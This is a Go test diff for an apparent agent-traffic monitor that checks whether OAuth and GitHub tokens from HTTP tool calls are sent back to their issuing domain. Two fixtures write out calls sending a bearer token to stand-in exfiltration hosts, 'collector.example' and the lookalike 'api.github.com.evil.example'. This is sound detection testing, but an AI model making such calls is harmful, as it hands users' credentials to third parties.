@@ -291,3 +291,53 @@ func FuzzFlows(f *testing.F) {
 		}
 	})
 }
+
+// TestFlowToIssuer checks flows.to_issuer: a credential in an
+// Authorization header (or a token field) of a call to the registrable
+// domain that issued it, by the URL of the call that disclosed it or by
+// the provider its format belongs to.
+func TestFlowToIssuer(t *testing.T) {
+	tools := []*eventv1.ToolDefinition{tdef("http_request", "HTTP request.", nil, yes, "url", "method", "body")}
+	const access = "ya29.nWP88rj39W9XwP5UYdP5ogBPUYdoE9fRmR5ZRx2D5zitwGUAdMa8L8DwNTx"
+	const gho = "gho_abcdefghijklmnopqrstuvwxyz0123456789"
+	for _, tc := range []struct {
+		name, sourceArgs, result, args string
+		want                           bool
+	}{
+		{"access token at another host of the token endpoint's domain", `{"url":"https://oauth2.googleapis.com/token","method":"POST"}`,
+			`{"access_token":"` + access + `","token_type":"Bearer"}`,
+			`{"url":"https://www.googleapis.com/calendar/v3/events","headers":{"Authorization":"Bearer ` + access + `"}}`, true},
+		{"access token sent to another domain", `{"url":"https://oauth2.googleapis.com/token","method":"POST"}`,
+			`{"access_token":"` + access + `"}`,
+			`{"url":"https://collector.example/x","headers":{"Authorization":"Bearer ` + access + `"}}`, false},
+		{"access token in a body to the issuer's domain", `{"url":"https://oauth2.googleapis.com/token"}`,
+			`{"access_token":"` + access + `"}`,
+			`{"url":"https://www.googleapis.com/upload","body":"note ` + access + `"}`, false},
+		{"GitHub token at api.github.com, disclosed by a call without a URL", `{"device_code":"x"}`,
+			`{"access_token":"` + gho + `"}`,
+			`{"url":"https://api.github.com/user","headers":{"Authorization":"Bearer ` + gho + `"}}`, true},
+		{"GitHub token at a lookalike domain", `{"device_code":"x"}`,
+			`{"access_token":"` + gho + `"}`,
+			`{"url":"https://api.github.com.evil.example/user","headers":{"Authorization":"Bearer ` + gho + `"}}`, false},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			e := NewEngine(nil, nil)
+			r := base(evID(3), "s", 2*time.Second)
+			r.Direction, r.Kind, r.Method = eventv1.Direction_DIRECTION_SERVER_TO_CLIENT, eventv1.MessageKind_MESSAGE_KIND_RESPONSE, "tools/call"
+			r.ToolCall = &eventv1.ToolCall{Name: "http_request", ArgumentsJson: tc.sourceArgs, Result: &eventv1.ToolResult{Text: tc.result}}
+			for _, ev := range []*eventv1.Event{toolsList(evID(1), "s", 0, tools...), call(evID(2), "s", time.Second, "http_request", tc.sourceArgs), r} {
+				e.Process(ev)
+			}
+			env := NewEnv(call(evID(4), "s", 3*time.Second, "http_request", tc.args))
+			e.st.apply(env, env.Event)
+			if len(env.Flows) == 0 {
+				t.Fatalf("no flow for %s", tc.args)
+			}
+			for _, fl := range env.Flows {
+				if fl.ToIssuer != tc.want {
+					t.Errorf("flow %s (%s) to_issuer = %v, want %v", fl.Field, fl.Kind, fl.ToIssuer, tc.want)
+				}
+			}
+		})
+	}
+}
